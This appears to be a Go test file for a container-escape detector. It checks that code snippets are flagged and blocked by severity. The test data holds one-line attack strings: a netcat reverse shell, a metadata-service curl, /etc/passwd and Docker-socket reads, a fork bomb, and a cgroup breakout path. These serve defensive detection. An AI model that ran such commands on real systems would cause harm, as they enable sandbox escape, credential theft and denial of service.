package monitor

import (
	"testing"

	"github.com/rs/zerolog"
)

func TestAnalyzeCode(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name        string
		code        string
		wantPattern string
		wantBlock   bool
	}{
		{"proc_self_root", `f = open("/proc/self/root/etc/passwd")`, "proc_self_access", false},
		{"cgroup breakout", `open("/sys/fs/cgroup/notify_on_release")`, "container_breakout", true},
		{"docker socket", `cat /var/run/docker.sock`, "host_mount_access", true},
		{"dirty_cow", `exploit = dirty_cow_payload()`, "kernel_exploit", true},
		{"metadata service", `curl 169.254.169.254/latest/meta-data/`, "metadata_service", false},
		{"reverse shell", `nc -e /bin/sh 10.0.0.1 4444`, "reverse_shell", true},
		{"cap_sys_admin", `capsh --caps="cap_sys_admin+eip"`, "capability_abuse", false},
		{"ptrace", `ptrace(PTRACE_ATTACH, pid, 0, 0)`, "ptrace_attempt", true},
		{"dev mem", `open("/dev/mem", "rb")`, "raw_memory", true},
		{"fork bomb", `:(){ :|:& };:`, "fork_bomb", false},
		{"symlink race", `ln -s /proc/self/ns /tmp/escape`, "symlink_race", false},
		{"crypto miner", `pool.connect("stratum+tcp://pool.mining.com")`, "crypto_miner", false},
		{"clean code", `print("hello world")`, "", false},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := d.AnalyzeCode(zerolog.Nop(), tt.code)
			if tt.wantPattern == "" {
				if len(f) != 0 {
					t.Fatalf("expected no findings, got %v", f)
				}
				return
			}
			found := false
			for _, name := range f.Names() {
				if name == tt.wantPattern {
					found = true
				}
			}
			if !found {
				t.Errorf("pattern %q not found in findings: %v", tt.wantPattern, f)
			}
			if got := d.Blocks(f); got != tt.wantBlock {
				t.Errorf("Blocks() = %v, want %v (highest %s)", got, tt.wantBlock, f.Highest())
			}
		})
	}
}

func TestAnalyzeCode_LineNumbers(t *testing.T) {
	d := NewEscapeDetector()
	code := "import numpy\n\nx = open('/dev/kmem')\n"

	f := d.AnalyzeCode(zerolog.Nop(), code)
	if len(f) != 1 {
		t.Fatalf("got %d findings, want 1", len(f))
	}
	if f[0].Line != 3 {
		t.Errorf("line = %d, want 3", f[0].Line)
	}
}

func TestWithBlockingSeverity(t *testing.T) {
	strict := NewEscapeDetector().WithBlockingSeverity(SeverityHigh)
	f := strict.AnalyzeCode(zerolog.Nop(), `curl 169.254.169.254`)
	if !strict.Blocks(f) {
		t.Error("expected high finding to block at SeverityHigh")
	}
	if NewEscapeDetector().Blocks(f) {
		t.Error("default detector should only block critical findings")
	}
	if strict.Blocks(nil) {
		t.Error("empty findings must not block")
	}
}

func TestAnalyzeOutput(t *testing.T) {
	d := NewEscapeDetector()

	tests := []struct {
		name         string
		output       string
		wantSeverity Severity
	}{
		{"root access", "root:x:0:0:root:/root:/bin/bash", SeverityCritical},
		{"docker socket", "found: /var/run/docker.sock", SeverityCritical},
		{"kernel", "Linux version 6.1.0", SeverityHigh},
		{"clean output", "hello world\n42\n", -1},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := d.AnalyzeOutput(tt.output).Highest(); got != tt.wantSeverity {
				t.Errorf("Highest() = %v, want %v", got, tt.wantSeverity)
			}
		})
	}
}

func TestSeverityString(t *testing.T) {
	tests := []struct {
		sev  Severity
		want string
	}{
		{SeverityLow, "low"},
		{SeverityMedium, "medium"},
		{SeverityHigh, "high"},
		{SeverityCritical, "critical"},
		{Severity(99), "unknown"},
	}

	for _, tt := range tests {
		t.Run(tt.want, func(t *testing.T) {
			if got := tt.sev.String(); got != tt.want {
				t.Errorf("Severity(%d).String() = %q, want %q", tt.sev, got, tt.want)
			}
		})
	}
}
